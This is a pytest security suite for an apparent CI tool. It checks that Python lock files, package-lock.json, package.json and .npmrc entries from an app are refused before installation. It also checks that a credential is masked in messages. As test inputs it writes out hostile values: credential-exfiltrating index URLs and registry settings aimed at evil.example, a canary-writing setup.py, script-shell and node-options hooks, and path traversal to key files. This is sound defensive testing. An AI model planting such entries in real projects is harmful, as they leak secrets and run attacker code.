"""Attacks 1 and 19: no lock, package-lock.json or .npmrc of the app reaches pip, uv or npm as it is."""

import hashlib
import io
import json
import logging
import os
import sys
import tarfile
import traceback
from collections.abc import Iterator, Mapping
from datetime import UTC, datetime
from pathlib import Path
from types import SimpleNamespace
from typing import cast

import pytest
from prefect.logging import disable_run_logger
from pytest_httpserver import HTTPServer
from werkzeug import Request, Response

from deployments.place import Place
from deployments.runtimes.layout import Installed, Layout
from evidence.bundle import Bundle, Run
from evidence.scopes import OURS
from evidence.store import Store
from gates.check import Outcome
from gates.scans.security import Context, judge_scan
from host.errors import ArtifactError, SlipwayError, SourceError, ToolError
from host.home import Home
from host.ports import free_port
from host.virtual_environments import interpreter, make_venv
from notify.outbox import GITHUB, INCOMING, Outbox
from tasks import artifacts
from tasks.scans.dependency import SCAN, scan_dependency
from tasks.source.git import Source
from tasks.source.locked_environments import fetch_wheels, locked_environment
from tasks.source.node_packages import node_packages
from tasks.source.workspace import Workspace
from tasks.states import Completed, Failed
from tests.tasks.scans.subjects import make_subject

PYTHON = f"{sys.version_info.major}.{sys.version_info.minor}"
CREDENTIAL = "slipway:the-canary-of-the-api-credential"
SOME_HASH = "0" * 64
INTEGRITY = "sha512-" + "A" * 86 + "=="


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A state directory with a credential in its place."""
    home = tmp_path / "home"
    for name in ("keys", "cache", "work"):
        (home / name).mkdir(parents=True)
    (home / "keys" / "prefect-auth").write_text(f"{CREDENTIAL}\n")
    monkeypatch.setenv("SLIPWAY_HOME", str(home))
    monkeypatch.setenv("PREFECT_API_AUTH_STRING", CREDENTIAL)
    return home


@pytest.fixture
def tree(home: Path) -> Path:
    """The commit, laid out where `ci` does: the way from there to the keys is known beforehand."""
    tree = home / "work" / "run" / "tree"
    tree.mkdir(parents=True)
    return tree


@pytest.fixture
def elsewhere(httpserver: HTTPServer) -> Iterator[HTTPServer]:
    """A server of the stranger's, which answers everything."""
    httpserver.expect_request("").respond_with_handler(_nothing)
    yield httpserver


def _nothing(_request: Request) -> Response:
    return Response("<html></html>", content_type="text/html")


def evil_source(folder: Path, canary: Path) -> str:
    """Put a source distribution into the commit that leaves the canary when it is built; return its hash."""
    folder.mkdir(parents=True, exist_ok=True)
    setup = f"import pathlib\npathlib.Path({str(canary)!r}).write_text('built')\nraise SystemExit('built')\n"
    with tarfile.open(folder / "evil-1.0.tar.gz", "w:gz") as archive:
        for name, text in {"setup.py": setup, "PKG-INFO": "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n"}.items():
            entry = tarfile.TarInfo(f"evil-1.0/{name}")
            entry.size = len(text)
            archive.addfile(entry, io.BytesIO(text.encode()))
    return hashlib.sha256((folder / "evil-1.0.tar.gz").read_bytes()).hexdigest()


def refused_everywhere(lock: Path, *words: str) -> None:
    """Hand a lock to everything that installs from one; each must name the file, the line and what stands there."""
    for install in (
        lambda: fetch_wheels(lock, PYTHON, OURS),
        lambda: locked_environment(lock, PYTHON, OURS),
        lambda: make_venv(lock.parent / "venv", interpreter(PYTHON), lock, None, lock.parent / "uv"),
    ):
        with pytest.raises(SlipwayError) as refused:
            install()
        assert isinstance(refused.value, SourceError), refused.value
        assert all(word in str(refused.value) for word in (lock.name, *words)), refused.value


@pytest.mark.parametrize(
    "options",
    [
        "--no-binary evil\n--find-links {folder}\n",
        "--no-binary=:all:\n--find-links={folder}\n",
        "-f {folder} --no-binary evil\n",
        "\t--no-binary evil --find-links \\\n{folder}\n",
    ],
)
def test_a_lock_does_not_have_a_source_distribution_built(home: Path, tree: Path, options: str) -> None:
    canary = home / "canary"
    digest = evil_source(tree / "vendor", canary)
    lock = tree / "requirements.lock"
    lock.write_text(options.format(folder=tree / "vendor") + f"evil==1.0 --hash=sha256:{digest}\n")
    refused_everywhere(lock, "line 1", "an option", options.split()[0].split("=")[0])
    assert not canary.exists()


@pytest.mark.parametrize("line", ["evil @ {url}", "{url}", "./vendor/evil-1.0.tar.gz", "-e ./vendor", "file:{path}"])
def test_a_lock_does_not_name_a_file_or_an_address(home: Path, tree: Path, line: str) -> None:
    canary = home / "canary"
    digest = evil_source(tree / "vendor", canary)
    path = tree / "vendor" / "evil-1.0.tar.gz"
    lock = tree / "requirements.lock"
    lock.write_text(f"# fine\n\n{line.format(url=path.as_uri(), path=path)} --hash=sha256:{digest}\n")
    refused_everywhere(lock, "line 3")
    assert not canary.exists()


@pytest.mark.parametrize(
    "line",
    [
        "--index-url {url}/${{PREFECT_API_AUTH_STRING}}/",
        "--extra-index-url={url}/${{PREFECT_API_AUTH_STRING}}/",
        "-i {url}/${{PREFECT_API_AUTH_STRING}}/",
        "x @ {url}/${{PREFECT_API_AUTH_STRING}}/x-1-py3-none-any.whl",
        "x==1 ; sys_platform == 'linux --index-url={url}/${{PREFECT_API_AUTH_STRING}}/'",
        "x==1 --index-url={url}/${{PREFECT_API_AUTH_STRING}}/",
        "x==1 --config-settings=a={url}/${{PREFECT_API_AUTH_STRING}}/",
        "x==${{PREFECT_API_AUTH_STRING}}",
        "--trusted-host\\\n {url}",
        "# a note\x0b--index-url {url}",
        "# a note\u2028--index-url {url}",
        "# a note\r--index-url {url}",
    ],
)
def test_no_credential_leaves_by_a_lock(elsewhere: HTTPServer, tree: Path, line: str) -> None:
    lock = tree / "requirements.lock"
    text = line.format(url=elsewhere.url_for("").rstrip("/"))
    lock.write_text(f"{text}\nx==1 --hash=sha256:{SOME_HASH}\n", newline="")
    refused_everywhere(lock, "line 1")
    assert not elsewhere.log


@pytest.mark.parametrize("option", ["-r", "-c", "--requirement", "--constraint=", "-r ./", "-e", "--editable"])
def test_no_secret_comes_out_by_a_message(home: Path, tree: Path, option: str) -> None:
    lock = tree / "requirements.lock"
    between = "" if option.endswith(("=", "/")) else " "
    lock.write_text(f"{option}{between}../../../keys/prefect-auth\n")
    refused_everywhere(lock, "line 1", "an option")
    with pytest.raises(SlipwayError) as refused:
        fetch_wheels(lock, PYTHON, OURS)
    assert "canary" not in str(refused.value)


def test_a_lock_that_is_a_link_to_a_secret_is_not_read(home: Path, tree: Path) -> None:
    lock = tree / "requirements.lock"
    lock.symlink_to(os.path.relpath(home / "keys" / "prefect-auth", tree))
    with pytest.raises(SlipwayError, match="requirements.lock: .*a file, not a link") as refused:
        make_venv(tree / "venv", interpreter(PYTHON), lock, None, tree / "uv")
    assert "canary" not in str(refused.value)


def test_a_secret_in_a_tools_words_is_masked_wherever_they_are_told(home: Path) -> None:
    words = f"Invalid requirement: '{CREDENTIAL}' at https://me:the-canary-of-an-index@index.example/"
    outbox = Outbox.of(Home(home))
    outbox.put(GITHUB, "comment", {"text": words, "deep": [{"said": words}]})
    outbox.write([("slack", "post", {"text": words})])
    told = [
        str(ToolError(words)),
        f"{ToolError(words)}",
        "".join(traceback.format_exception(ToolError(words))),
        str(Failed(message=words).message),
        str(Completed(message=words).message),
        json.dumps([item.body for queue in (GITHUB, "slack") for item in outbox.due(queue)]),
    ]
    assert [text for text in told if "canary" in text] == []
    assert all("Invalid requirement" in text for text in told)


def test_what_arrived_is_kept_as_it_is(home: Path) -> None:
    outbox = Outbox.of(Home(home))
    outbox.put(INCOMING, "push", {"text": CREDENTIAL})
    assert outbox.due(INCOMING)[0].body == {"text": CREDENTIAL}


def test_a_secret_is_masked_on_a_page(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    pages: list[str] = []
    monkeypatch.setattr(artifacts, "create_markdown_artifact", lambda page, **given: pages.append(page + str(given)))
    monkeypatch.setattr(artifacts, "get_run_logger", logging.getLogger)
    artifacts.show("ci", f"it said {CREDENTIAL}", CREDENTIAL)
    assert len(pages) == 1 and "canary" not in pages[0]


@pytest.mark.parametrize(
    "line", ["--index-url https://index.example/", "-r other.lock", "x @ https://x.example/x.whl", "x"]
)
def test_a_commit_does_not_have_its_dependencies_accepted_unrun(home: Path, tmp_path: Path, line: str) -> None:
    text = f"{line}\nflask==3.0.0 --hash=sha256:{SOME_HASH}\n"
    nowhere = f"http://127.0.0.1:{free_port()}"  # accepted un-run is meant for this, and for nothing else
    subject = make_subject(tmp_path, {"requirements.lock": text}, osv_url=nowhere)
    check = scan_dependency(subject)
    accepting = Context({}, {}, {"dependency": "no source of advisories here"}, {}, datetime.now(UTC))
    judged = judge_scan(check, SCAN.rule, accepting)
    assert (judged.outcome, "requirements.lock: line 1" in judged.reason) == (Outcome.NO_VERDICT, True)


def test_a_source_that_is_away_is_still_accepted_unrun(home: Path, tmp_path: Path) -> None:
    nowhere = f"http://127.0.0.1:{free_port()}"
    subject = make_subject(tmp_path, {"requirements.lock": f"x==1 --hash=sha256:{SOME_HASH}\n"}, osv_url=nowhere)
    accepting = Context({}, {}, {"dependency": "no source of advisories here"}, {}, datetime.now(UTC))
    assert judge_scan(scan_dependency(subject), SCAN.rule, accepting).outcome is Outcome.ACCEPTED_UNRUN


def npm_lock(**entry: object) -> dict[str, object]:
    package = {"version": "1.0.0", "integrity": INTEGRITY, **entry}
    packages = {"": {"dependencies": {"x": "^1.0.0"}}, "node_modules/x": package}
    return {"lockfileVersion": 3, "packages": packages}


def npm_folder(tree: Path, lock: object, settings: str = "", package: Mapping[str, object] | None = None) -> Path:
    folder = tree / "frontend"
    folder.mkdir()
    (folder / "package.json").write_text(json.dumps({"dependencies": {"x": "^1.0.0"}, **(package or {})}))
    (folder / "package-lock.json").write_text(json.dumps(lock))
    (folder / ".npmrc").write_text(settings)
    return folder


def refused_by_npm(folder: Path, *words: str) -> None:
    """Install the packages of a folder as `ci` does; it must be refused with these words before npm is run."""
    source = Source("c" * 40, "1.0", "main", (), folder.parent / "source.tar")
    workspace = Workspace(folder.parent.parent, source, folder.parent / "environment")
    with disable_run_logger(), pytest.raises(SourceError) as refused:
        node_packages(workspace, folder.parent, folder.name)
    assert all(word in str(refused.value) for word in ("frontend/", *words)), refused.value
    assert not list(folder.parent.parent.glob("node-packages-*"))


@pytest.mark.parametrize(
    ("entry", "word"),
    [
        ({"resolved": "git+ssh://git@evil.example/x.git#abc"}, "resolved: git+ssh://"),
        ({"resolved": "file:../../../keys/prefect-auth"}, "resolved: file:"),
        ({"resolved": "https://evil.example/x/-/x-1.0.0.tgz"}, "resolved: https://evil.example"),
        ({"resolved": "https://evil.example@127.0.0.1/x-1.0.0.tgz"}, "resolved: "),
        ({"resolved": "../x", "link": True}, "a folder of the commit"),
        ({"integrity": ""}, "no integrity"),
        ({"integrity": "md5-AAAA"}, "no integrity"),
        ({"inBundle": True, "integrity": ""}, "no integrity"),
        ({"version": "file:vendor/x.tgz"}, "version: file:vendor"),
        ({"version": "git+https://evil.example/x.git"}, "version: git+https"),
        ({"hasShrinkwrap": True}, "hasShrinkwrap is not accepted"),
        ({"dependencies": {"y": "github:evil/y"}}, "y: github:evil/y is no version"),
        ({"dependencies": {"y": "evil/y"}}, "y: evil/y is no version"),
        ({"name": "../../evil"}, "name: ../../evil"),
    ],
)
def test_a_lock_of_npm_names_packages_of_the_registry_alone(
    home: Path, tree: Path, entry: dict[str, object], word: str
) -> None:
    refused_by_npm(npm_folder(tree, npm_lock(**entry)), "package-lock.json: node_modules/x", word)


@pytest.mark.parametrize("place", ["packages/x", "../x", "node_modules/../../x", "node_modules/.bin/x", "/etc/x"])
def test_a_lock_of_npm_does_not_lead_to_a_folder(home: Path, tree: Path, place: str) -> None:
    lock = {"lockfileVersion": 3, "packages": {"": {}, place: {"version": "1.0.0", "integrity": INTEGRITY}}}
    refused_by_npm(npm_folder(tree, lock), place, "a folder of the commit")


@pytest.mark.parametrize(
    ("package", "word"),
    [
        ({"workspaces": ["packages/*"]}, "workspaces"),
        ({"dependencies": {"x": "git+file:///etc"}}, "x: git+file:"),
        ({"devDependencies": {"x": "https://evil.example/x.tgz"}}, "x: https://evil"),
        ({"optionalDependencies": {"x": "file:../.."}}, "x: file:"),
        ({"overrides": {"y": {"x": "evil/x"}}}, "x: evil/x"),
        ({"dependencies": {"x": ".."}}, "x: .."),
        ({"dependencies": {"x": "evil.tgz"}}, "x: evil.tgz"),
        ({"overrides": {"x": "evil.TAR.GZ"}}, "x: evil.TAR.GZ"),
    ],
)
def test_a_package_json_asks_the_registry_alone(home: Path, tree: Path, package: dict[str, object], word: str) -> None:
    refused_by_npm(npm_folder(tree, npm_lock(), package=package), "package.json", word)


@pytest.mark.parametrize(
    "setting",
    [
        "script-shell=./evil.sh",
        "registry=https://evil.example/${PREFECT_API_AUTH_STRING}/",
        "@x:registry = https://evil.example/",
        "//evil.example/:_authToken=${PREFECT_API_AUTH_STRING}",
        "git = ./evil.sh",
        "node-options=--require ./evil.js",
        "cafile=../../../keys/prefect-auth",
        "globalconfig=./evil",
        "ignore-scripts=false",
        "prefix=/tmp",
        "legacy-peer-deps=${X}",
        "[section]",
    ],
)
def test_the_settings_of_npm_are_not_the_apps(home: Path, tree: Path, setting: str) -> None:
    name = setting.partition("=")[0].strip()
    refused_by_npm(npm_folder(tree, npm_lock(), f"; a comment\nfund=false\n{setting}\n"), ".npmrc: line 3", name)


@pytest.mark.parametrize("option", ["--no-binary evil\n--find-links {folder}", "-r {keys}", "-e {folder}"])
def test_the_lock_of_an_artifact_is_read_again_at_a_release(home: Path, tree: Path, option: str) -> None:
    canary = home / "canary"
    digest = evil_source(tree / "vendor", canary)
    store = Store(home / "store")
    lock = tree / "requirements.lock"
    words = option.format(folder=tree / "vendor", keys=home / "keys" / "prefect-auth")
    lock.write_text(f"{words}\nevil==1.0 --hash=sha256:{digest}\n")
    bundle = Bundle(
        app="shop",
        commit="c" * 40,
        version="1",
        python=PYTHON,
        source="0" * 64,
        lock=store.put_file(lock),
        wheels={},
        run=Run(command=("python",)),
    )
    place = cast(Place, SimpleNamespace(store=store, home=Home(home)))
    installed = Installed("d" * 64, bundle, home / "installed")
    installed.root.mkdir()
    with pytest.raises(ArtifactError, match="artifact dddddddddddd: runtime.lock: line 1: an option") as refused:
        Layout(place, runs_here=True)._make(installed, bundle.lock, {})
    assert not canary.exists() and "canary" not in str(refused.value)
